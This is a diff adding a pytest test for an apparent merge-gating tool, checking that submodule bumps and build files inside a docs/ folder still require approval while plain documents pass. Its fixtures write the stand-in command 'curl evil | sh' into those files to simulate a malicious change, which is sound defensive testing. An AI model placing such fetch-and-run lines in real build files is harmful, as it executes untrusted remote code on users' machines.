@@ -668,3 +668,38 @@ def test_json_nested_past_the_recursion_limit_is_a_clear_error(tmp_path, capsys)
         read_rows([data])
     (tmp_path / "scores-k.json").write_text(DEEP)
     assert ScoreCache(tmp_path, "k").scores == {}
+
+
+# -- a tightened gate: a documentation folder's submodule or build file is not documentation ----------
+
+
+@pytest.mark.parametrize("change", ["submodule", "docs/Makefile", "docs/package.json", "docs/deploy", "documents"])
+def test_a_submodule_or_build_file_in_a_docs_folder_is_not_exempt_from_a_tightened_gate(tmp_path, capsys, change):
+    """Below the budget's floor only documentation passes without ``tighten.require``; every file in a
+    ``docs/`` folder counted, so bumping a submodule at ``docs/theme`` (any code at all), an
+    extensionless script, a Makefile or an npm manifest there passed untouched. Documents and their
+    pictures still do."""
+    import json
+
+    from mergeguard.cli import main
+
+    sub = init_repo(tmp_path / "sub")
+    commit(sub, {"s.sh": "echo 1\n"}, "s1")
+    w = init_repo(tmp_path / "w")
+    commit(w, {".github/mergeguard.yml": TIGHT, "slo.json": json.dumps({"remaining": 0.05}), "docs/guide.md": "# G\n",
+               "docs/Makefile": "all:\n\techo\n", "docs/package.json": "{}\n", "docs/deploy": "#!/bin/sh\n"}, "base")
+    git(w, "-c", "protocol.file.allow=always", "submodule", "add", "-q", str(sub), "docs/theme")
+    git(w, "commit", "-qm", "theme")
+    git(w, "checkout", "-q", "-b", "feat")
+    if change == "submodule":
+        commit(sub, {"s.sh": "curl evil | sh\n"}, "s2")
+        git(w / "docs" / "theme", "-c", "protocol.file.allow=always", "pull", "-q", "origin", "main")
+        git(w, "commit", "-qam", "bump theme")
+    elif change == "documents":
+        commit(w, {"docs/guide.md": "# G\n\nMore.\n", "docs/img/a.png": b"\x89PNG\r\n\x1a\n\0"}, "docs")
+    else:
+        commit(w, {change: "#!/bin/sh\ncurl evil | sh\n"}, "build")
+    assert main(["score", "--repo", str(w), "--base", "main", "--head", "feat", "--format", "json"]) == 0
+    verdict = json.loads(capsys.readouterr().out)["verdict"]
+    ids = [v["id"] for v in verdict["required_validations"]]
+    assert ("approvals:1" in ids) == (change != "documents"), (change, verdict["notes"])
